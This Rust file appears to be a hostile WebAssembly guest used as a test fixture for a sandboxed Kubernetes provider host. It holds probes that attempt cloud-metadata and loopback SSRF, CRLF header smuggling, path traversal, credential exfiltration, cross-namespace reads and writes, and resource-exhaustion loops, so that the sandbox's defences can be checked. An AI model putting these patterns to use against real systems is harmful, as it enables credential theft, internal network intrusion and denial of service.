//! The guest itself, written on the bindings alone.

mod bindings {
    #![allow(unsafe_code, missing_docs, unreachable_pub, clippy::all, clippy::pedantic, reason = "generated code")]

    wit_bindgen::generate!({ world: "provider", path: "../../wit" });

    export!(Hostile with_types_in self);

    use super::Hostile;
}

use std::{
    env, fs, hint,
    net::TcpStream,
    sync::{
        OnceLock,
        atomic::{AtomicU32, Ordering::Relaxed},
    },
    thread,
    time::Duration,
};

use self::bindings::{
    capstan::provider::{
        cluster::{self, PatchKind, PatchOptions},
        config,
        credentials::{self, Credential, Scheme, SecretKey},
        events, http, log,
        types::{Failure, ObjectKind, ObjectRef, Problem},
    },
    exports::capstan::provider::{
        describe::{self, Descriptor, ManagedKind},
        external::{self, Change, Creation, Difference, Observation, Readiness},
    },
};
use crate::{Behaviour, marker};

struct Hostile;

/// What connect was told, for disconnect, which sees no object.
static CONNECTED: OnceLock<Behaviour> = OnceLock::new();
/// Where [`Behaviour::Remembers`] keeps what should not be there the next time.
static MEMORY: AtomicU32 = AtomicU32::new(0);

/// Asks for everything: what it gets is for the administrator to say.
const NEEDS: &str = r#"{
    "kubernetes": [{"apiGroups": ["*"], "kinds": ["*"], "verbs": ["*"]}],
    "http": [{"origin": "*"}],
    "secrets": [
        {"namespace": "*", "names": ["*"], "keys": ["*"], "origins": ["*"]},
        {"namespace": "*", "names": ["*"], "keys": ["*"], "origins": ["*"], "bodyMembers": ["/config/secret", "/description"]}
    ]
}"#;

/// Where the test's server is, by the names that lead to it.
const CONFIG_SCHEMA: &str = r#"{"type": "object", "properties": {"port": {"type": "integer"}}}"#;

impl describe::Guest for Hostile {
    fn describe() -> Descriptor {
        let mut name = "hostile";
        match marker::written() {
            Some(Behaviour::SpinsInDescribe) => spin(),
            Some(Behaviour::TrapsInDescribe) => trap(),
            Some(Behaviour::ImportsInDescribe) => log::write(log::Level::Info, "from describe", &[]),
            Some(Behaviour::MalformedDescriptor) => name = "No Name!",
            _ => {}
        }
        let kind = ObjectKind { api_version: "test.capstan.dev/v1".to_owned(), kind: "Hostile".to_owned() };
        Descriptor {
            name: name.to_owned(),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            kinds: vec![ManagedKind { kind, definition: None, recoverable: true }],
            needs: NEEDS.to_owned(),
            config_schema: Some(CONFIG_SCHEMA.to_owned()),
        }
    }
}

impl external::Guest for Hostile {
    fn connect(managed: String) -> Result<(), Failure> {
        let behaviour = behaviour(&managed);
        let _ = CONNECTED.set(behaviour);
        match behaviour {
            Behaviour::SpinsInConnect => spin(),
            Behaviour::TrapsInConnect => trap(),
            _ => Ok(()),
        }
    }

    fn observe(managed: String) -> Result<Observation, Failure> {
        let mut answer = Observation {
            exists: true,
            up_to_date: true,
            differences: Vec::new(),
            late_initialize: None,
            status: None,
            readiness: Readiness::Ready,
            external_name: None,
        };
        match behaviour(&managed) {
            Behaviour::SpinsInObserve => spin(),
            Behaviour::Sleeps => thread::sleep(Duration::from_hours(1)),
            Behaviour::TrapsInObserve => trap(),
            Behaviour::Panics => panic!("these are the words"),
            Behaviour::Exits => std::process::exit(3),
            Behaviour::Recurses => answer.exists = recurse(0, hint::black_box(u64::MAX)) > 0,
            Behaviour::RecursesWithLocals => answer.exists = recurse_with_locals(0, hint::black_box(u64::MAX)) > 0,
            Behaviour::Allocates => allocate(),
            Behaviour::AllocatesAndRecovers => {
                let refused = Vec::<u8>::new().try_reserve_exact(1 << 30).is_err();
                answer.status = Some(format!(r#"{{"refused": {refused}}}"#));
            }
            Behaviour::MalformedLateInitialize => answer.late_initialize = Some("{\"spec\":".to_owned()),
            Behaviour::MalformedStatusOfObserve => answer.status = Some("[]".to_owned()),
            Behaviour::MalformedDifference => {
                let desired = Some("not json".to_owned());
                answer.differences = vec![Difference { path: ".spec".to_owned(), desired, actual: None }];
            }
            Behaviour::DeepStatus => answer.status = Some(format!("{{\"a\":{}", "[".repeat(100_000))),
            Behaviour::HugeAnswer => answer.status = Some(huge()),
            Behaviour::HugeLogLine => log::write(log::Level::Info, &huge(), &[]),
            Behaviour::HugeFailure => {
                let problem = Problem { reason: "no\nreason ".repeat(1000), message: "long ".repeat(10_000) };
                return Err(Failure::Retryable(problem));
            }
            Behaviour::FloodsTheLog => {
                for line in 0..10_000 {
                    log::write(log::Level::Error, "flood", &[("line".to_owned(), line.to_string())]);
                }
            }
            Behaviour::FloodsTheOutput => {
                for line in 0..10_000 {
                    println!("out {line}");
                    eprintln!("err {line}");
                }
            }
            Behaviour::FloodsEvents => {
                for number in 0..1_000 {
                    events::emit(events::Kind::Warning, "Flood", "Flood", &format!("number {number}"));
                }
            }
            Behaviour::FloodsTheCluster => loop {
                let _ = cluster::get(&config_map("team-a", "allowed"));
            },
            Behaviour::ReadsOutsideItsGrant => told(&cluster::get(&config_map("team-b", "secret"))?),
            Behaviour::ListsOutsideItsGrant => {
                let kind = ObjectKind { api_version: "v1".to_owned(), kind: "ConfigMap".to_owned() };
                let selection = cluster::Selection { kind, namespace: None, labels: None };
                cluster::list(&selection)?.into_iter().for_each(|object| told(&object));
            }
            Behaviour::WritesOutsideItsGrant => told(&patch(&config_map("team-b", "secret"), r#"{"data": {}}"#)?),
            Behaviour::ReadsThroughAPath => {
                told(&cluster::get(&config_map("team-a", "../../team-b/configmaps/secret"))?);
            }
            Behaviour::PatchesAnotherObject => {
                told(&patch(&config_map("team-a", "allowed"), r#"{"metadata": {"namespace": "team-b"}}"#)?);
            }
            Behaviour::LooksAround => answer.status = Some(look_around()),
            Behaviour::Remembers => {
                let before = MEMORY.fetch_add(1, Relaxed);
                answer.status = Some(format!(r#"{{"before": {before}}}"#));
            }
            outside => answer.status = reach_out(outside)?,
        }
        Ok(answer)
    }

    fn create(managed: String) -> Result<Creation, Failure> {
        let mut answer = Creation { external_name: None, annotations: Vec::new(), status: None };
        match behaviour(&managed) {
            Behaviour::SpinsInCreate => spin(),
            Behaviour::MalformedStatusOfCreate => answer.status = Some("[]".to_owned()),
            _ => {}
        }
        Ok(answer)
    }

    fn update(managed: String) -> Result<Change, Failure> {
        let mut answer = Change { status: None };
        match behaviour(&managed) {
            Behaviour::SpinsInUpdate => spin(),
            Behaviour::MalformedStatusOfUpdate => answer.status = Some("[]".to_owned()),
            _ => {}
        }
        Ok(answer)
    }

    fn delete(managed: String) -> Result<(), Failure> {
        match behaviour(&managed) {
            Behaviour::SpinsInDelete => spin(),
            _ => Ok(()),
        }
    }

    fn disconnect() -> Result<(), Failure> {
        match CONNECTED.get() {
            Some(Behaviour::SpinsInDisconnect) => spin(),
            Some(Behaviour::TrapsInDisconnect) => trap(),
            _ => Ok(()),
        }
    }
}

/// The text behind `"behaviour":"`; no reader of JSON is worth its size here.
fn behaviour(managed: &str) -> Behaviour {
    let name = managed.split_once(r#""behaviour":""#).and_then(|(_, rest)| rest.split_once('"'));
    name.and_then(|(name, _)| Behaviour::of(name)).unwrap_or(Behaviour::Behaves)
}

fn spin() -> ! {
    let mut number = 0u64;
    loop {
        number = hint::black_box(number.wrapping_add(1));
    }
}

fn trap() -> ! {
    core::arch::wasm32::unreachable()
}

/// What happens after the call of itself cannot be moved before it, so that it stays a recursion.
fn recurse(depth: u64, end: u64) -> u64 {
    if depth == end { 0 } else { recurse(depth + 1, end).rotate_left(1) ^ depth }
}

/// The same with something in memory on each level.
fn recurse_with_locals(depth: u64, end: u64) -> u64 {
    let local = hint::black_box([depth; 16]);
    if depth == end { 0 } else { recurse_with_locals(depth + 1, end).rotate_left(1) ^ local[7] }
}

fn allocate() -> ! {
    let mut kept = Vec::new();
    loop {
        kept.push(hint::black_box(vec![1u8; 1 << 20]));
    }
}

fn huge() -> String {
    "x".repeat(20 << 20)
}

fn config_map(namespace: &str, name: &str) -> ObjectRef {
    ObjectRef {
        api_version: "v1".to_owned(),
        kind: "ConfigMap".to_owned(),
        namespace: Some(namespace.to_owned()),
        name: name.to_owned(),
    }
}

fn patch(target: &ObjectRef, patch: &str) -> Result<String, cluster::Error> {
    cluster::patch(target, PatchKind::Merge, patch, &PatchOptions { subresource: None, force: false, dry_run: false })
}

/// What a guest does to other systems. The status tells what came of it.
fn reach_out(behaviour: Behaviour) -> Result<Option<String>, Failure> {
    let port = port();
    let server = |path: &str| format!("http://server.test:{port}{path}");
    let answer = match behaviour {
        Behaviour::FetchesMetadata => fetch("http://169.254.169.254/latest/meta-data/")?,
        Behaviour::FetchesLoopback => fetch(&format!("http://127.0.0.1:{port}/"))?,
        Behaviour::FetchesAPrivateAddress => fetch("http://10.0.0.1/")?,
        Behaviour::FetchesAMappedAddress => fetch(&format!("http://[::ffff:127.0.0.1]:{port}/"))?,
        Behaviour::FetchesANameOfLoopback => fetch(&format!("http://rebound.test:{port}/"))?,
        Behaviour::FetchesOutsideItsGrant => fetch(&format!("http://elsewhere.test:{port}/?query=told"))?,
        Behaviour::IsRedirected => {
            let answer = fetch(&server("/redirect"))?;
            let location = answer.headers.iter().find(|(name, _)| name == "location");
            fetch(&location.expect("a redirect has a location").1)?
        }
        Behaviour::SmugglesAHeader => send(&request(&server("/"), &[("x-name", "value\r\nx-other: smuggled")]))?,
        Behaviour::NamesAnotherHost => send(&request(&server("/"), &[("host", "elsewhere.test")]))?,
        Behaviour::ClimbsOutOfItsPath => fetch(&format!("http://narrow.test:{port}/in/%2e%2e/out"))?,
        Behaviour::SendsACredentialElsewhere => {
            let credential = credentials::open(&secret("token"), &Scheme::Bearer)?;
            http::fetch(&http::Request { auth: Some(&credential), ..request(&server("/"), &[]) })?
        }
        Behaviour::PutsASecretWhereItShows => {
            let credential = credentials::open(&secret("hook"), &Scheme::BodyMember("/description".to_owned()))?;
            http::fetch(&with_secret(&server("/"), "PATCH", r#"{"description": null}"#, &credential))?
        }
        Behaviour::PutsASecretIntoAQuestion => {
            let credential = credentials::open(&secret("hook"), &Scheme::BodyMember("/config/secret".to_owned()))?;
            http::fetch(&with_secret(&server("/"), "GET", r#"{"config": {"secret": null}}"#, &credential))?
        }
        Behaviour::OpensAForeignSecret => {
            told(&credentials::open(&secret("foreign"), &Scheme::Bearer)?.fingerprint());
            return Ok(None);
        }
        Behaviour::HoardsCredentials => {
            let mut hoard = Vec::new();
            loop {
                hoard.push(credentials::open(&secret("token"), &Scheme::Bearer)?);
            }
        }
        Behaviour::IsBombedWithGzip => fetch(&server("/bomb"))?,
        Behaviour::IsAnsweredWithoutEnd => fetch(&server("/endless"))?,
        Behaviour::IsAnsweredWithHeaders => fetch(&server("/headers"))?,
        Behaviour::IsAnsweredSlowly => {
            send(&http::Request { timeout_ms: Some(100), ..request(&server("/slow"), &[]) })?
        }
        Behaviour::WaitsForAnAnswer => fetch(&server("/slow"))?,
        Behaviour::FloodsOtherSystems => loop {
            let _ = fetch(&server("/"));
        },
        Behaviour::DrawsTooMuch => loop {
            fetch(&server("/large"))?;
        },
        _ => return Ok(None),
    };
    told(&format!("{}: {}", answer.status, String::from_utf8_lossy(&answer.body)));
    Ok(None)
}

fn port() -> u32 {
    let config = config::get();
    let digits = config.split_once(r#""port":"#).map_or("", |(_, rest)| rest);
    digits.trim_end_matches('}').parse().unwrap_or(1)
}

fn request<'a>(url: &str, headers: &[(&str, &str)]) -> http::Request<'a> {
    http::Request {
        method: "GET".to_owned(),
        url: url.to_owned(),
        headers: headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
        body: None,
        timeout_ms: None,
        auth: None,
        body_secret: None,
    }
}

fn with_secret<'a>(url: &str, method: &str, body: &str, secret: &'a Credential) -> http::Request<'a> {
    http::Request {
        method: method.to_owned(),
        body: Some(body.as_bytes().to_vec()),
        body_secret: Some(secret),
        ..request(url, &[])
    }
}

fn send(request: &http::Request<'_>) -> Result<http::Response, http::Error> {
    http::fetch(request)
}

fn fetch(url: &str) -> Result<http::Response, http::Error> {
    send(&request(url, &[]))
}

fn secret(name: &str) -> SecretKey {
    SecretKey { namespace: None, name: name.to_owned(), key: "token".to_owned() }
}

/// Something was given to us that should not have been. Said so that the test sees it.
fn told(object: &str) {
    panic!("got hold of {object}");
}

/// A refusal, as a failure that carries its kind and text.
impl From<cluster::Error> for Failure {
    fn from(error: cluster::Error) -> Self {
        let (reason, message) = match error {
            cluster::Error::NotFound(message) => ("NotFound", message),
            cluster::Error::Conflict(clash) => ("Conflict", clash.message),
            cluster::Error::Denied(message) => ("Denied", message),
            cluster::Error::Invalid(message) => ("Invalid", message),
            cluster::Error::Unavailable(message) => ("Unavailable", message),
        };
        Self::Terminal(Problem { reason: reason.to_owned(), message })
    }
}

/// What a guest can find of the machine.
fn look_around() -> String {
    let variables = env::vars().count();
    let arguments = env::args().count();
    let files = fs::read_dir("/").is_ok() || fs::read("/etc/hostname").is_ok() || fs::write("x", "y").is_ok();
    let network = TcpStream::connect("127.0.0.1:80").is_ok() || TcpStream::connect("localhost:80").is_ok();
    let input = std::io::read_to_string(std::io::stdin()).map_or(0, |text| text.len());
    format!(
        r#"{{"variables": {variables}, "arguments": {arguments}, "files": {files}, "network": {network}, "input": {input}}}"#
    )
}

impl From<http::Error> for Failure {
    fn from(error: http::Error) -> Self {
        let (reason, message) = match error {
            http::Error::Denied(message) => ("Denied", message),
            http::Error::TimedOut => ("TimedOut", String::new()),
            http::Error::RateLimited(millis) => ("RateLimited", millis.to_string()),
            http::Error::TooLarge(limit) => ("TooLarge", limit.to_string()),
            http::Error::Unreachable(message) => ("Unreachable", message),
            http::Error::InvalidRequest(message) => ("InvalidRequest", message),
        };
        Self::Terminal(Problem { reason: reason.to_owned(), message })
    }
}

impl From<credentials::Error> for Failure {
    fn from(error: credentials::Error) -> Self {
        let (reason, message) = match error {
            credentials::Error::NotFound(message) => ("NotFound", message),
            credentials::Error::Denied(message) => ("Denied", message),
            credentials::Error::Invalid(message) => ("Invalid", message),
            credentials::Error::Unavailable(message) => ("Unavailable", message),
        };
        Self::Terminal(Problem { reason: reason.to_owned(), message })
    }
}
